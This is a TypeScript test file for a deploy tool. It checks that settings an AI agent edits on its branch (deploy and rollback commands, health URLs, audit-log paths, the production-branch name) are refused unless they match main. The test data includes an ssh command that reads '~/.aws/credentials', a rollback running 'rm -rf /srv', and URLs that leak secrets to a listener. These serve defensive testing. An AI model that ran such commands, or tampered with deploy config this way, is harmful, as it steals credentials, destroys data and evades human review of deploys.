import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { APPROVE, DeployFixture } from '../deploy/helpers/deploy-repo.js';
import { runCliProcess } from '../deploy/helpers/run-cli.js';
import { type ConnectionListener, listenForConnections, recordSpawns } from '../helpers/spawn-recorder.js';
import { shipped } from '../deploy/helpers/prepared-fixture.js';

/**
 * Issue 55, category 5: deploy settings come from the production branch's policy, never from
 * whatever is checked out. An agent's branch edits `deploy:` (its command, a URL, the record's
 * path, through `extends:`, in a renamed policy file, by naming itself the production branch); a
 * person runs promote, rollback or watch from that checkout. The agent's command is `ssh` to
 * 127.0.0.1, through a PATH shim that logs and refuses it: "it never ran" is the shim's empty log.
 * Its hosts are a listener on 127.0.0.1 that counts connections. Each attack has its near miss:
 * a branch whose deploy settings are production's promotes as usual.
 *
 * Over 300 lines: one repository with production deployed twice serves every case of the
 * category in turn (each case a branch off main); split, each file would deploy it again.
 */

const STAGING_DEPLOY = 'deploy: [sh, infrastructure/scripts/deploy.sh]\n      health_retries';
const AGENT_COMMAND = 'deploy: [ssh, "deploy@127.0.0.1", "cat ~/.aws/credentials"]\n      health_retries';

/** The 1-based line of the first line of `text` containing `needle`. */
const lineOf = (text: string, needle: string) => text.split('\n').findIndex((l) => l.includes(needle)) + 1;

describe('deploy settings come from the production branch, not the checkout', () => {
  let f: DeployFixture;
  let policy = '';
  let main = '';
  let attacker: ConnectionListener;
  const shims = recordSpawns(['ssh'], { refuse: ['ssh'] });
  const git = (...args: string[]) => f.repo.git(...args).trim();
  const cli = (...args: string[]) =>
    runCliProcess(args, { cwd: f.repo.dir, env: { ...f.env, PATH: shims.env().PATH } });
  const auditLog = () => f.read('infrastructure/deploy-audit.jsonl') ?? '';

  /**
   * A branch off main with `files` changed and committed, left checked out. Only those files:
   * the record and the log the runs write are carried along as they are in the working tree.
   */
  const branch = (name: string, files: Record<string, string>, remove: string[] = []) => {
    git('checkout', '-q', '-B', name, 'main');
    if (remove.length > 0) git('rm', '-q', '--', ...remove);
    f.repo.write(files);
    git('add', '--', ...Object.keys(files));
    git('commit', '-q', '-m', `${name}: agent's change`);
    return git('rev-parse', 'HEAD');
  };

  beforeAll(async () => {
    ({ f } = await shipped(['production']));
    attacker = await listenForConnections();
    policy = readFileSync(join(f.repo.dir, 'slipway.yaml'), 'utf8');
    main = git('rev-parse', 'main');
  });
  afterAll(async () => {
    await attacker.close();
    shims.dispose();
    await f.dispose();
  });

  /** The refusal every attack ends in: exit 2, nothing run, nothing connected, nothing logged. */
  async function expectRefused(args: string[], ...clauses: string[]) {
    const before = auditLog();
    shims.clear();
    const requests = f.requests().length;
    const connections = attacker.connections();
    const r = await cli(...args);
    // What ran and what was contacted first: measured, whatever the output says.
    expect(shims.calls(), "the agent's ssh ran").toEqual([]);
    expect(attacker.connections(), "the agent's host was contacted").toBe(connections);
    expect(f.requests()).toHaveLength(requests);
    expect(auditLog()).toBe(before);
    expect(r.code, r.stdout + r.stderr).toBe(2);
    for (const c of clauses) expect(r.stderr, r.stderr).toContain(c);
    expect(r.stderr).toContain('nothing was run or written');
    expect(r.stderr).not.toMatch(/\n\s+at /); // one line, no stack
    return r;
  }

  it("an agent's branch that changes production's deploy command: promote from its checkout refuses, naming the line, and the command never runs", async () => {
    // Production's is the second environment's deploy command; staging keeps its own.
    const i = policy.lastIndexOf(STAGING_DEPLOY);
    const edited = `${policy.slice(0, i)}${AGENT_COMMAND}${policy.slice(i + STAGING_DEPLOY.length)}`;
    branch('agent/prod-command', { 'slipway.yaml': edited });
    const line = lineOf(edited, 'deploy: [ssh');
    await expectRefused(
      ['promote', main, '--env', 'production', ...APPROVE],
      `slipway.yaml:${line} deploy.environments.production.deploy is ["ssh","deploy@127.0.0.1","cat ~/.aws/credentials"] here, ["sh","infrastructure/scripts/deploy.sh"] on main`,
      'merge the change to main first',
    );
  });

  it("near miss: an agent's branch that leaves deploy: alone is verified on staging from its own checkout", async () => {
    const sha = branch('agent/app-only', { 'app.txt': 'agent v3\n' });
    const r = await cli('promote', '--env', 'staging');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toMatch(
      /deploy settings: slipway\.yaml on main \(commit [0-9a-f]{12}\), the same as this checkout's/,
    );
    expect(f.requests().at(-1)).toBe(`deploy staging ${sha}`);
  });

  it("an agent's staging command is refused for staging too (an agent's own SHA, staging's credentials)", async () => {
    const edited = policy.replace(STAGING_DEPLOY, AGENT_COMMAND);
    branch('agent/staging-command', { 'slipway.yaml': edited });
    await expectRefused(
      ['promote', '--env', 'staging'],
      `slipway.yaml:${lineOf(edited, 'deploy: [ssh')} deploy.environments.staging.deploy is ["ssh","deploy@127.0.0.1","cat ~/.aws/credentials"] here, ["sh","infrastructure/scripts/deploy.sh"] on main`,
    );
  });

  it('near miss: a change elsewhere in the policy (not deploy:) does not block the promote', async () => {
    const sha = branch('agent/waiver-days', { 'slipway.yaml': `${policy}max_waiver_days: 14\n` });
    const r = await cli('promote', '--env', 'staging');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(f.requests().at(-1)).toBe(`deploy staging ${sha}`);
  });

  it("an agent's branch that names someone else as the agents (agents.identities) is refused: it would pass as a person", async () => {
    const edited = `${policy}agents:\n  identities: ["nobody@example.com"]\n`;
    branch('agent/not-me', { 'slipway.yaml': edited });
    await expectRefused(
      ['promote', '--env', 'staging'],
      `slipway.yaml:${lineOf(edited, 'identities:')} agents.identities is ["nobody@example.com"] here, absent on main`,
    );
  });

  it('near miss: a branch that changes only agents.branches is not blocked by it', async () => {
    const sha = branch('agent/branches', { 'slipway.yaml': `${policy}agents:\n  branches: ["bots/*"]\n` });
    const r = await cli('promote', '--env', 'staging');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(f.requests().at(-1)).toBe(`deploy staging ${sha}`);
  });

  it("an agent's health URL on its own host (a secret in its path) is never contacted", async () => {
    const edited = policy.replace(
      `url: "\${STAGING_URL}"`,
      `url: "http://127.0.0.1:${attacker.port}/\${PROD_URL}"`,
    );
    branch('agent/health-url', { 'slipway.yaml': edited });
    await expectRefused(
      ['promote', '--env', 'staging'],
      `slipway.yaml:${lineOf(edited, 'url: "http://127.0.0.1')} deploy.environments.staging.url is "http://127.0.0.1:${attacker.port}/\${PROD_URL}" here, "\${STAGING_URL}" on main`,
    );
  });

  it('near miss: the same settings written differently (quotes, comments, key order) are the same settings', async () => {
    const edited = policy
      .replace(`url: "\${STAGING_URL}"`, `url: '\${STAGING_URL}' # the stand-in`)
      .replace(
        '  record: infrastructure/LAST_PROD_DEPLOY.json\n  audit_log: infrastructure/deploy-audit.jsonl\n',
        '  audit_log: infrastructure/deploy-audit.jsonl\n  record: "infrastructure/LAST_PROD_DEPLOY.json"\n',
      );
    expect(edited).not.toBe(policy);
    const sha = branch('agent/reformatted', { 'slipway.yaml': edited });
    const r = await cli('promote', '--env', 'staging');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(f.requests().at(-1)).toBe(`deploy staging ${sha}`);
  });

  it("an agent's branch that moves deploy.audit_log and deploy.record (history written elsewhere) is refused, and neither path is written", async () => {
    const edited = policy
      .replace('audit_log: infrastructure/deploy-audit.jsonl', 'audit_log: tmp/quiet.jsonl')
      .replace('record: infrastructure/LAST_PROD_DEPLOY.json', 'record: tmp/record.json');
    branch('agent/record-paths', { 'slipway.yaml': edited });
    await expectRefused(
      ['promote', '--env', 'staging'],
      `slipway.yaml:${lineOf(edited, 'record: tmp')} deploy.record is "tmp/record.json" here, "infrastructure/LAST_PROD_DEPLOY.json" on main`,
      `slipway.yaml:${lineOf(edited, 'audit_log: tmp')} deploy.audit_log is "tmp/quiet.jsonl" here`,
    );
    expect(existsSync(join(f.repo.dir, 'tmp'))).toBe(false);
  });

  it('an extends: base added on the branch that brings its own environment is refused at the extends: line', async () => {
    const base = `version: 1\ndeploy:\n  environments:\n    canary:\n      url: "http://127.0.0.1:${attacker.port}"\n      deploy: [ssh, "deploy@127.0.0.1"]\n`;
    const edited = policy.replace(
      'production_branch: main\n',
      'production_branch: main\nextends: infra/base.yaml\n',
    );
    branch('agent/extends', { 'slipway.yaml': edited, 'infra/base.yaml': base });
    await expectRefused(
      ['promote', '--env', 'canary'],
      `slipway.yaml:${lineOf(edited, 'extends:')} deploy.environments.canary (from infra/base.yaml) is {"url":"http://127.0.0.1:${attacker.port}"`,
      'absent on main',
    );
  });

  it('near miss: an extends: base that sets only rules (not deploy:) does not block', async () => {
    const edited = policy.replace(
      'production_branch: main\n',
      'production_branch: main\nextends: infra/base.yaml\n',
    );
    const sha = branch('agent/extends-rules', {
      'slipway.yaml': edited,
      'infra/base.yaml': 'version: 1\nmax_waiver_days: 14\n',
    });
    const r = await cli('promote', '--env', 'staging');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(f.requests().at(-1)).toBe(`deploy staging ${sha}`);
  });

  it('the policy moved to slipway.yml on the branch, with its own command: refused, naming slipway.yml', async () => {
    const edited = policy.replace(STAGING_DEPLOY, AGENT_COMMAND);
    branch('agent/renamed', { 'slipway.yml': edited }, ['slipway.yaml']);
    await expectRefused(
      ['promote', '--env', 'staging'],
      `slipway.yml in this checkout differ from slipway.yaml on main`,
      `slipway.yml:${lineOf(edited, 'deploy: [ssh')} deploy.environments.staging.deploy is ["ssh"`,
    );
  });

  it('near miss: the policy moved to slipway.yml unchanged promotes', async () => {
    const sha = branch('agent/renamed-same', { 'slipway.yml': policy }, ['slipway.yaml']);
    const r = await cli('promote', '--env', 'staging');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(f.requests().at(-1)).toBe(`deploy staging ${sha}`);
  });

  it('a branch that names itself the production branch, committed with its own command: main still decides', async () => {
    const edited = policy
      .replace('production_branch: main', 'production_branch: agent/self')
      .replace(STAGING_DEPLOY, AGENT_COMMAND);
    branch('agent/self', { 'slipway.yaml': edited });
    await expectRefused(
      ['promote', '--env', 'staging'],
      'slipway.yaml:2 production_branch is "agent/self" here, "main" on main',
      'deploy.environments.staging.deploy is ["ssh"',
    );
  });

  it("a dry run from the agent's checkout says which lines differ and runs nothing", async () => {
    const edited = policy.replace(STAGING_DEPLOY, AGENT_COMMAND);
    branch('agent/dry', { 'slipway.yaml': edited });
    await expectRefused(
      ['promote', main, '--env', 'production', '--dry-run'],
      `slipway.yaml:${lineOf(edited, 'deploy: [ssh')} deploy.environments.staging.deploy is ["ssh"`,
    );
  });

  it('near miss: a dry run from main says what would run and from where', async () => {
    git('checkout', '-q', 'main');
    const r = await cli('promote', main, '--env', 'production', '--dry-run');
    expect(r.stdout).toContain('  deploy: sh infrastructure/scripts/deploy.sh\n');
    expect(r.stdout).toContain(
      `  deploy settings: slipway.yaml on main (commit ${main.slice(0, 12)}), the same as this checkout's\n`,
    );
  });

  it("rollback from an agent's checkout whose rollback command is its own is refused; the command never runs", async () => {
    const edited = policy.replace(
      '      approval: required\n',
      `      approval: required\n      rollback: [ssh, "deploy@127.0.0.1", "rm -rf /srv"]\n`,
    );
    branch('agent/rollback-command', { 'slipway.yaml': edited });
    await expectRefused(
      ['rollback', '--reason', 'errors since 14:02', ...APPROVE],
      `slipway.yaml:${lineOf(edited, 'rollback: [ssh')} deploy.environments.production.rollback is ["ssh","deploy@127.0.0.1","rm -rf /srv"] here, absent on main`,
    );
    expect(f.record()?.last_good_sha).toBe(main);
  });

  it("watch from an agent's checkout with production's health on its host is refused; nothing is contacted", async () => {
    const edited = policy.replace(`url: "\${PROD_URL}"`, `url: "http://127.0.0.1:${attacker.port}"`);
    branch('agent/watch', { 'slipway.yaml': edited });
    await expectRefused(['watch', '--once'], 'deploy.environments.production.url is "http://127.0.0.1:');
  });

  it('near miss: rollback and watch from a checkout of main act as before', async () => {
    git('checkout', '-q', 'main');
    const watch = await cli('watch', '--once');
    expect(watch.code, watch.stdout + watch.stderr).toBe(0);
    const r = await cli('rollback', '--reason', 'errors since 14:02', ...APPROVE);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('deploy settings: slipway.yaml on main');
    expect(f.requests().at(-1)).toMatch(/^rollback production /);
    expect((await cli('unpin', '--reason', 'fixed', ...APPROVE)).code).toBe(0);
  });

  it('an uncommitted edit of deploy: in a checkout of main is refused until it is committed (near miss: committed, it runs)', async () => {
    git('checkout', '-q', 'main');
    const edited = policy.replace(
      'deploy_timeout_s: 20\n    production',
      'deploy_timeout_s: 30\n    production',
    );
    f.repo.write({ 'slipway.yaml': edited });
    await expectRefused(
      ['promote', '--env', 'staging'],
      `slipway.yaml:${lineOf(edited, 'deploy_timeout_s: 30')} deploy.environments.staging.deploy_timeout_s is 30 here, 20 on main`,
    );
    const sha = f.repo.commit('staging deploys may take 30s');
    const r = await cli('promote', '--env', 'staging');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(f.requests().at(-1)).toBe(`deploy staging ${sha}`);
  });
});

describe('where production is not main, or has no policy yet', () => {
  let f: DeployFixture;
  const shims = recordSpawns(['ssh'], { refuse: ['ssh'] });
  const git = (...args: string[]) => f.repo.git(...args).trim();
  const cli = (...args: string[]) =>
    runCliProcess(args, { cwd: f.repo.dir, env: { ...f.env, PATH: shims.env().PATH } });
  let policy = '';

  beforeAll(async () => {
    f = await new DeployFixture().start();
    policy = readFileSync(join(f.repo.dir, 'slipway.yaml'), 'utf8');
  });
  afterAll(async () => {
    shims.dispose();
    await f.dispose();
  });

  it('the first deploy, from the branch that brings the policy in, is refused: main has none yet', async () => {
    git('checkout', '-q', '-b', 'agent/adopt');
    git('checkout', '-q', 'main');
    git('rm', '-q', 'slipway.yaml');
    git('commit', '-q', '-m', 'before adoption');
    git('checkout', '-q', 'agent/adopt');
    f.repo.write({ 'slipway.yaml': policy.replace(STAGING_DEPLOY, AGENT_COMMAND) });
    f.repo.commit('adopt slipway, with my command');
    const r = await cli('promote', '--env', 'staging');
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/main \(commit [0-9a-f]{12}\) has no slipway\.yaml or slipway\.toml/);
    expect(r.stderr).toContain('merge slipway.yaml to main first');
    expect(shims.calls()).toEqual([]);
    expect(f.requests()).toEqual([]);
  });

  it('near miss: once main has the policy, naming release as production, release decides and a checkout matching it promotes', async () => {
    const released = policy.replace('production_branch: main', 'production_branch: release');
    git('checkout', '-q', '-f', 'main');
    f.repo.write({ 'slipway.yaml': released });
    f.repo.commit('adopt slipway; production is release');
    git('branch', 'release');
    const r = await cli('promote', '--env', 'staging');
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('deploy settings: slipway.yaml on release');
    // release's policy moves on; main's checkout no longer matches it.
    git('checkout', '-q', 'release');
    f.repo.write({ 'slipway.yaml': released.replace('deploy_timeout_s: 20', 'deploy_timeout_s: 25') });
    f.repo.commit('release: staging deploys may take 25s');
    git('checkout', '-q', 'main');
    const stale = await cli('promote', '--env', 'staging');
    expect(stale.code).toBe(2);
    expect(stale.stderr).toContain('deploy.environments.staging.deploy_timeout_s is 20 here, 25 on release');
  });
});
